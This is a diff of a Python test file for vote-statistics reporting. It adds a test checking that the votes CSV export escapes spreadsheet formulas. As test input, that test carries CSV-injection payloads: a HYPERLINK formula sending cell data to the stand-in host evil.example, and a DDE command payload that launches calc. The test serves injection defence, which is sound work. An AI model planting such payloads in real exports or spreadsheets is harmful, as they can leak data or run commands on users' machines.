@@ -1,15 +1,25 @@
-"""The statistics of pairwise votes against values known in closed form or published."""
+"""The statistics of pairwise votes against values known in closed form or published, and the votes' CSV."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import math
 from pathlib import Path
 
 import pytest
 
-from blackbox.core.votes import Vote
-from blackbox.reports.preferences import bradley_terry, fleiss_kappa, group_preferences, votes_csv, wilson_interval
+from blackbox.reports.preferences import (
+    FORMULA_STARTS,
+    bradley_terry,
+    fleiss_kappa,
+    group_preferences,
+    safe_cell,
+    votes_csv,
+    wilson_interval,
+)
+from blackbox.reports.votes import Vote
 
 
 def test_wilson_interval() -> None:
@@ -69,7 +79,7 @@ def test_groups_win_rates_and_agreement() -> None:
 
 
 def test_report_adds_the_comparison_of_the_study_folder(tmp_path: Path) -> None:
-    from blackbox.core.votes import add_vote, votes_db
+    from blackbox.assessment.compare.votes import add_vote, votes_db
     from blackbox.reports import write_report
 
     records = [
@@ -93,8 +103,8 @@ def test_report_adds_the_comparison_of_the_study_folder(tmp_path: Path) -> None:
 
 
 def test_position_bias_of_people_and_of_a_judge() -> None:
-    from blackbox.core.votes import judge_detail
     from blackbox.reports.preferences import position_bias, results_text
+    from blackbox.reports.votes import judge_detail
 
     # People: the left answer won 3 of 4 votes for one answer (a: model_a, shown left when a_shown_first).
     people = [
@@ -117,3 +127,19 @@ def test_position_bias_of_people_and_of_a_judge() -> None:
     assert "Position bias: the answer shown left won 75.0% [30.1%, 95.4%] of 4 verdicts" in text
     assert "the answer shown first (A) won 75.0%" in text and "same model in 1 of 3 pairs" in text
     assert math.isnan(position_bias([Vote("ann", "q1", "m1", "m2", "tie", True)]).share)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text() -> None:
+    # Model names, question ids and judge names come from answers files and options: OWASP's payloads in each.
+    hyperlink, command = '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0"
+    votes = [
+        Vote("ann", "=1+1", command, hyperlink, "b", True),
+        Vote("judge:x", "q2", "-2+3", "@SUM(A1:A9)", "a", False, "\t=1"),
+        Vote("bob", "\r=1", "base", "best\r=2+5", "tie", True),  # a CR in a cell: no row of its own
+    ]
+    rows = list(csv.reader(io.StringIO(votes_csv(votes), newline="")))
+    assert rows[1][1:6] == ["'=1+1", "'" + command, "'" + hyperlink, "b", "'" + hyperlink]  # the winner too
+    assert rows[2][2:4] == ["'-2+3", "'@SUM(A1:A9)"] and rows[2][8] == "'\t=1"
+    assert rows[3][1:4] == ["'\r=1", "base", "best\r=2+5"] and len(rows) == 4
+    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
+    assert [safe_cell(v) for v in ("best", "", 1, "a=b", "q-1")] == ["best", "", "1", "a=b", "q-1"]  # text as it is
